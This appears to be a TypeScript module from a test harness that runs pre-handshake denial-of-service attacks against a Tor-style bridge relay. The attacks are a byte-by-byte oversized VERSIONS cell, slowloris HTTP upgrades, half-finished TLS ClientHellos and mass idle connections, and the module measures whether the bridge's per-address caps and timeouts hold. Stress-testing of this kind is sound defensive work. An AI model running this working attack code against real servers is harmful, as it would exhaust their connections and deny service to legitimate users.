import type * as net from 'node:net';
import WebSocket from 'ws';
import type { Attack, AttackReport } from '../harness.ts';
import { Tally, failureLabel } from '../outcomes.ts';
import { rawConnect, rawWebSocket, sleep } from '../peer.ts';

/**
 * Attack 6, before any handshake completes, each from the attacker's own address:
 * - a 64 KB VERSIONS cell sent one byte per WebSocket message, on several links at once;
 * - slowloris: HTTP upgrade requests whose headers arrive a few bytes at a time and never end;
 * - TLS connections to the ORPort that never finish the handshake (half a ClientHello, or a
 *   ClientHello and then silence);
 * - hundreds of idle connections (TCP to both ports, and WebSocket links that never send VERSIONS).
 * Each reports how many of its connections the bridge closed while it ran (what per-address caps
 * and handshake timeouts are for); the honest client must get through meanwhile.
 */

export interface PreHandshakeReport extends AttackReport {
  readonly connections: Tally;
  /** The attacker's connections still open when it was stopped. */
  readonly stillOpen: number;
}

/** Tracks the attack's sockets: closed by the bridge, or by us at the end. */
class Sockets {
  readonly tally = new Tally();
  private readonly open = new Set<net.Socket>();
  private stopping = false;

  add(s: net.Socket): void {
    this.open.add(s);
    this.tally.add('opened');
    s.once('close', () => {
      this.open.delete(s);
      if (!this.stopping) this.tally.add('closed by the bridge');
    });
  }

  forEach(f: (s: net.Socket) => void): void {
    for (const s of this.open) f(s);
  }

  get count(): number {
    return this.open.size;
  }

  closeAll(): void {
    this.stopping = true;
    for (const s of this.open) s.destroy();
    this.open.clear();
  }
}

async function connectMany(n: number, port: number, address: string, sockets: Sockets, onOpen: (s: net.Socket) => void, signal: AbortSignal): Promise<void> {
  await Promise.all(Array.from({ length: n }, async () => {
    if (signal.aborted) return;
    try {
      const s = await rawConnect(port, address, 5000);
      sockets.add(s);
      onOpen(s);
    } catch (e) {
      sockets.tally.add(`connect: ${failureLabel(e)}`);
    }
  }));
}

export function byteByByteVersions(opts: { connections?: number } = {}): Attack<PreHandshakeReport> {
  return async ({ relay, address, signal }) => {
    const connections = new Tally();
    // VERSIONS: circuit id 0 (2 bytes), command 7, length 65534, then versions; 4 and 5 at the end.
    const body = new Uint8Array(65534);
    body.set([0, 4, 0, 5], body.length - 4);
    const cell = new Uint8Array([0, 0, 7, 0xff, 0xfe, ...body]);
    let bytes = 0;
    await Promise.all(Array.from({ length: opts.connections ?? 4 }, () => new Promise<void>((resolve) => {
      const ws = new WebSocket(relay.webSocketUrl, { localAddress: address, perMessageDeflate: false });
      let pos = 0;
      let closedByUs = false;
      const pump = () => {
        while (!signal.aborted && pos < cell.length && ws.readyState === WebSocket.OPEN && ws.bufferedAmount < 64 * 1024) {
          ws.send(cell.subarray(pos, pos + 1));
          pos++;
          bytes++;
        }
        if (signal.aborted || ws.readyState !== WebSocket.OPEN) { closedByUs = true; ws.terminate(); return; }
        // The whole cell went out: stay connected, say nothing more, until stopped.
        setTimeout(pump, pos < cell.length ? 1 : 100);
      };
      ws.on('open', () => { connections.add('opened'); pump(); });
      ws.on('error', (e) => connections.add(`error: ${e.message.slice(0, 40)}`));
      ws.on('close', () => { if (!closedByUs && !signal.aborted) connections.add(`closed by the bridge after ${pos} bytes`); resolve(); });
    })));
    return { summary: `${opts.connections ?? 4} WebSocket links from ${address}, a 65539-byte VERSIONS cell one byte per message: ${bytes} messages sent; ${connections}`, connections, stillOpen: connections.get('opened') - connections.startingWith('closed by the bridge') };
  };
}

export function slowloris(opts: { connections?: number } = {}): Attack<PreHandshakeReport> {
  return async ({ relay, address, signal }) => {
    const sockets = new Sockets();
    const headers = 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n';
    await connectMany(opts.connections ?? 150, relay.webSocketPort, address, sockets, (s) => s.write(headers), signal);
    // A header byte now and then, never the blank line that ends them.
    let tick = 0;
    while (!signal.aborted) {
      await sleep(500);
      tick++;
      sockets.forEach((s) => s.write(tick % 40 === 0 ? '\r\nX-Slow: ' : 'a'));
    }
    const still = sockets.count;
    sockets.closeAll();
    return { summary: `${opts.connections ?? 150} HTTP upgrades from ${address} with headers that never end: ${sockets.tally}; ${still} still open at the end`, connections: sockets.tally, stillOpen: still };
  };
}

/** The first bytes of a TLS 1.2/1.3 ClientHello record header and handshake header: not enough to answer. */
const PARTIAL_CLIENT_HELLO = Uint8Array.of(0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03);

export function unfinishedTls(opts: { connections?: number } = {}): Attack<PreHandshakeReport> {
  return async ({ relay, address, signal }) => {
    const sockets = new Sockets();
    await connectMany(opts.connections ?? 150, relay.orPort, address, sockets, (s) => s.write(PARTIAL_CLIENT_HELLO), signal);
    while (!signal.aborted) await sleep(100);
    const still = sockets.count;
    sockets.closeAll();
    return { summary: `${opts.connections ?? 150} TLS connections from ${address} that stop inside the ClientHello: ${sockets.tally}; ${still} still open at the end`, connections: sockets.tally, stillOpen: still };
  };
}

export function idleConnections(opts: { perPort?: number; webSockets?: number } = {}): Attack<PreHandshakeReport> {
  return async ({ relay, address, signal }) => {
    const sockets = new Sockets();
    const perPort = opts.perPort ?? 150;
    await connectMany(perPort, relay.orPort, address, sockets, () => {}, signal);
    await connectMany(perPort, relay.webSocketPort, address, sockets, () => {}, signal);
    // WebSocket links that upgrade and then never send VERSIONS.
    await Promise.all(Array.from({ length: opts.webSockets ?? 50 }, async () => {
      if (signal.aborted) return;
      try {
        sockets.add(await rawWebSocket(relay.webSocketPort, address, 5000));
      } catch (e) {
        sockets.tally.add(`upgrade: ${failureLabel(e)}`);
      }
    }));
    while (!signal.aborted) await sleep(100);
    const still = sockets.count;
    sockets.closeAll();
    return { summary: `${2 * perPort} idle TCP connections and ${opts.webSockets ?? 50} silent WebSocket links from ${address}: ${sockets.tally}; ${still} still open at the end`, connections: sockets.tally, stillOpen: still };
  };
}
